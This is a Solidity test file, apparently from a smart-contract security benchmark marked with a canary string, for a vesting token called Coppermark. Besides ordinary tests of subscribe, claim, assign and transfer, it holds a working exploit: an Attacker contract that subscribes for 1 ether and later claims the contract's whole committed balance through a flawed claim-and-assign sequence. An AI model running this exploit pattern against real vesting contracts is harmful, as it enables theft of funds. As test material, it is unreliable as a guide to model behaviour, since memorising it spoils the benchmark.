// SPDX-License-Identifier: MIT
// canary: assay-canary-e2493a19-8e36-4515-8545-fdcae831879d
pragma solidity 0.6.12;

import "./Coppermark.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function addr(uint256 key) external returns (address);
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    Coppermark internal coin;
    Attacker internal rogue;
    address internal alice;
    address internal bob;
    uint256 internal aliceId;

    function setUp() public {
        vm.warp(1700000000);
        alice = vm.addr(0xA11CE);
        bob = vm.addr(0xB0B);
        coin = new Coppermark(payable(vm.addr(0x7EA5)), 100000 ether, 50000 ether, 30);
        vm.deal(alice, 20 ether);
        vm.prank(alice);
        aliceId = coin.subscribe{value: 20 ether}();

        rogue = new Attacker(coin);
        vm.deal(address(rogue), 1 ether);
    }

    function test_Regular() public {
        uint256 start = block.timestamp;
        require(coin.committed() == 20000 ether, "committed");
        vm.deal(bob, 60 ether);
        vm.prank(bob);
        vm.expectRevert();
        coin.subscribe{value: 31 ether}();

        vm.warp(start + 90 days);
        require(coin.claimable(aliceId) == 5000 ether, "a quarter vested");
        vm.prank(alice);
        vm.expectRevert();
        coin.claim(aliceId, 5001 ether);
        vm.prank(bob);
        vm.expectRevert();
        coin.claim(aliceId, 1 ether);
        vm.prank(alice);
        coin.claim(aliceId, 1000 ether);
        require(coin.balanceOf(alice) == 1000 ether, "alice claimed");

        vm.prank(alice);
        vm.expectRevert();
        coin.assign(aliceId, bob, 15001 ether);
        vm.prank(alice);
        uint256 bobId = coin.assign(aliceId, bob, 8000 ether);
        require(coin.planCount() == 2, "two plans");
        require(coin.claimable(aliceId) == 2000 ether, "a quarter of 12000 less 1000");
        require(coin.claimable(bobId) == 0, "starts now");

        vm.warp(start + 360 days);
        vm.prank(alice);
        coin.claim(aliceId, 11000 ether);
        vm.prank(bob);
        coin.claim(bobId, 8000 ether);
        require(coin.balanceOf(alice) == 12000 ether && coin.balanceOf(bob) == 8000 ether, "all claimed");
        require(coin.committed() == 0, "nothing committed");

        vm.prank(alice);
        coin.transfer(bob, 500 ether);
        vm.prank(bob);
        coin.approve(alice, 300 ether);
        vm.prank(alice);
        coin.transferFrom(bob, alice, 300 ether);
        require(coin.balanceOf(alice) == 11800 ether, "moved");
        vm.prank(alice);
        vm.expectRevert();
        coin.transferFrom(bob, alice, 1);

        coin.forwardProceeds();
        require(coin.treasury().balance == 20 ether, "proceeds");
    }

    function exploit() public {
        rogue.begin();
        vm.warp(block.timestamp + 180 days);
        rogue.finish();
    }

    function test_Exploit() public {
        uint256 before = coin.balanceOf(address(rogue));
        exploit();
        require(coin.balanceOf(address(rogue)) >= before + 20000 ether, "no gain");
    }

    function token() public view returns (address) {
        return address(coin);
    }

    function target() public view returns (address) {
        return address(coin);
    }

    function attacker() public view returns (address) {
        return address(rogue);
    }
}

contract Attacker {
    Coppermark internal coin;
    uint256 internal id;

    constructor(Coppermark coin_) public {
        coin = coin_;
    }

    function begin() external {
        id = coin.subscribe{value: 1 ether}();
    }

    function finish() external {
        // the vested half, then the other half out of the plan
        coin.claim(id, 500 ether);
        coin.assign(id, address(this), 500 ether);
        coin.claim(id, coin.committed());
    }
}
